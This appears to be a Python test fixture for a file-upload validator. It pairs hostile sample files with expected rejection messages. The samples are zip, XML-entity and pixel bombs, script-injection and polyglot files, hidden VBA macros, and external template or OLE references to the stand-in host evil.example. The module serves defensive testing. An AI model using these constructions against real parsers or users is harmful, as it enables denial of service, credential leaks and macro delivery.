"""What people who mean harm, or whose programs do, send: each with a piece of what they are told."""

import io
import struct
import zipfile
from collections.abc import Callable

from tests.files.builders import (
    HTML,
    MAIN,
    SVG,
    archive,
    box,
    gif_bomb,
    mp3,
    mp4,
    office,
    ogg,
    open_document,
    pdf,
    picture,
    png_bomb,
    relation,
)

MACRO_TYPE = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
SETTINGS = "word/_rels/settings.xml.rels"


def zip_bomb() -> bytes:
    """A document of a hundred kilobytes that unpacks to a hundred megabytes."""
    return office(parts={"word/media/zeros.bmp": b"\0" * (100 * 1024 * 1024)})


def lying_bomb() -> bytes:
    """The same, saying of itself that it is small."""
    content = bytearray(office(parts={"word/media/zeros.bmp": b"\0" * (30 * 1024 * 1024)}))
    real, small = struct.pack("<I", 30 * 1024 * 1024), struct.pack("<I", 100)
    return bytes(content).replace(real, small)


def nested_bomb() -> bytes:
    """Archives within archives within archives, each small enough by itself."""
    inner = archive({"zeros": b"\0" * (4 * 1024 * 1024)})
    for _level in range(3):
        inner = archive({f"{n}.zip": inner for n in range(4)})
    return office(parts={"word/embeddings/package.zip": inner})


def wide_nested_bomb() -> bytes:
    """Many archives beside each other, within the depth that documents need."""
    inner = office("xlsx", {f"{n}": b"\0" * (4 * 1024 * 1024) for n in range(20)})
    return office(parts={f"word/embeddings/{n}.xlsx": inner for n in range(20)})


def many_entries() -> bytes:
    return office(parts={f"word/media/{n}": b"" for n in range(6_000)})


def locked() -> bytes:
    """A document that says its parts are encrypted."""
    content = bytearray(office())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(mark)
        while place >= 0:
            content[place + offset] |= 1
            place = content.find(mark, place + 4)
    return bytes(content)


def said_twice() -> bytes:
    """Two parts of one name: what one reader checks is not what the other opens."""
    content = io.BytesIO(office())
    with zipfile.ZipFile(content, "a") as made:
        made.writestr("WORD/document.xml", "<other/>")
    return content.getvalue()


def entities() -> bytes:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    types = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]><Types>&l9;</Types>'
    return archive({"[Content_Types].xml": types, MAIN["docx"][0]: "<document/>"})


def hidden_macro() -> bytes:
    """A macro under a harmless name, its type written with a reference to a sign."""
    types = '<Override PartName="/word/notes.bin" ContentType="application/vnd.ms-office.vba&#80;roject"/>'
    return office(parts={"word/notes.bin": b"\0"}, types=types)


# What takes long to make is made by the test that sends it.
HOSTILE: dict[str, tuple[bytes | Callable[[], bytes], str]] = {
    "empty.pdf": (b"", "empty"),
    "drawing.svg": (SVG, "Web pages and drawings"),
    "drawing.png": (SVG, "Web pages and drawings"),
    "late.png": (b"\xef\xbb\xbf \n\t<?xml version='1.0'?>\n" + SVG, "Web pages and drawings"),
    "page.html": (HTML, "Web pages and drawings"),
    "page.jpg": (HTML, "Web pages and drawings"),
    "page.txt": (b"Hello there <script>alert(1)</script>", "Web pages and drawings"),
    "wide.txt": (HTML.decode().encode("utf-16"), "Web pages and drawings"),
    "comment.txt": (b"<!-- hello --><p>", "Web pages and drawings"),
    "book.xml": (b"<book lang='en'><a/></book>", "Web pages and drawings"),
    "page.pdf": (b"%PDF-1.7\n" + HTML, "The PDF is damaged or not only a PDF"),
    "both.pdf": (pdf(HTML), "The PDF is damaged or not only a PDF"),
    "cut.pdf": (pdf()[:60], "The PDF is damaged or not only a PDF"),
    "archive.pdf": (pdf() + archive({"evil.class": b"\xca\xfe"}), "The PDF is damaged or not only a PDF"),
    "script.gif": (b"GIF89a=1;alert(document.domain);/*" + b"a" * 400 + b"*/", "The picture is damaged"),
    "short.png": (picture("PNG")[:60], "The picture is damaged"),
    "short.jpg": (picture("JPEG", (400, 300))[:900], "The picture is damaged"),
    "only-a-head.webp": (b"RIFF\x24\0\0\0WEBPVP8 ", "The picture is damaged"),
    "bomb.png": (png_bomb(), "more than 50 million pixels"),
    "nearly.png": (png_bomb(7_100, 7_100), "more than 50 million pixels"),
    "bomb.gif": (gif_bomb(), "more than 50 million pixels"),
    "scan.tiff": (b"II*\0\x08\0\0\0" + b"\0" * 64, "This kind of picture is not taken"),
    "old.bmp": (picture("BMP"), "This kind of picture is not taken"),
    "phone.heic": (box(b"ftyp", b"heic\0\0\0\0mif1heic") + b"\0" * 64, "HEIC"),
    "film.mp4": (mp4(b"soun", b"vide", brand=b"isom"), "Videos are not taken"),
    "no-track.m4a": (mp4(), "Videos are not taken"),
    "endless.m4a": (box(b"ftyp", b"M4A ") + b"\0\0\0\x08moov" * 5_000, "Videos are not taken"),
    "film.ogg": (ogg(b"\x80theora"), "This kind of file is not taken"),
    "film.webm": (b"\x1a\x45\xdf\xa3" + b"\0" * 64, "Videos are not taken"),
    "page.mp3": (b"ID3\x04\0\0\0\0\0\x10" + b"\0" * 16 + HTML, "This kind of file is not taken"),
    "one-frame.mp3": (mp3(frames=1), "This kind of file is not taken"),
    "letter.doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "older formats"),
    "letter.rtf": (b"{\\rtf1\\ansi hello}", "This kind of document is not taken"),
    "program.exe": (b"MZ\x90\0\x03\0\0\0" + b"\0" * 64, "This kind of file is not taken"),
    "program.pdf.exe": (b"\x7fELF\x02\x01\x01\0" + b"\0" * 64, "This kind of file is not taken"),
    "noise.txt": (bytes(range(256)) * 8, "This kind of file is not taken"),
    "archive.zip": (archive({"a.txt": b"hello"}), "Archives are not taken"),
    "bomb.docx": (zip_bomb, "unpacks to far more"),
    "lying.docx": (lying_bomb, "damaged"),
    "nested.docx": (nested_bomb, "unpacks to far more"),
    "wide.docx": (wide_nested_bomb, "unpacks to far more"),
    "many.docx": (many_entries, "unpacks to far more"),
    "entities.docx": (entities(), "damaged"),
    "macros.docm": (office(parts={"word/vbaProject.bin": b"\0"}, types=MACRO_TYPE), "macros"),
    "macros.docx": (office(parts={"word/vbaProject.bin": b"\0"}), "macros"),
    "hidden.docx": (hidden_macro(), "macros"),
    "related.docx": (office(parts={SETTINGS: relation("vbaProject", "notes.bin")}), "macros"),
    "enabled.docx": (
        office(
            types='<Override PartName="/x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
        ),
        "macros",
    ),
    "macros.odt": (open_document(parts={"Basic/Standard/Module1.xml": "<m/>"}), "macros"),
    "macros.ods": (open_document("spreadsheet", {"Scripts/python/evil.py": "x"}), "macros"),
    "template.odt": (open_document("text-template"), "Archives are not taken"),
    "fetching.docx": (
        office(parts={SETTINGS: relation("attachedTemplate", "https://evil.example/t.dotm", external=True)}),
        "fetches something",
    ),
    "share.docx": (
        office(
            parts={SETTINGS: relation("attachedTemplate", "file://///evil.example/t.dotm", external=True)}
        ),
        "fetches something",
    ),
    "unc.docx": (
        office(parts={SETTINGS: relation("oleObject", "\\\\evil.example\\t.doc", external=True)}),
        "fetches something",
    ),
    "mhtml.docx": (
        office(parts={SETTINGS: relation("oleObject", "mhtml:https://evil.example/x", external=True)}),
        "fetches something",
    ),
    "cut.docx": (office()[:-40], "damaged"),
    "behind.docx": (office() + HTML, "damaged"),
    "locked.docx": (locked(), "locked"),
    "twice.docx": (said_twice(), "damaged"),
}
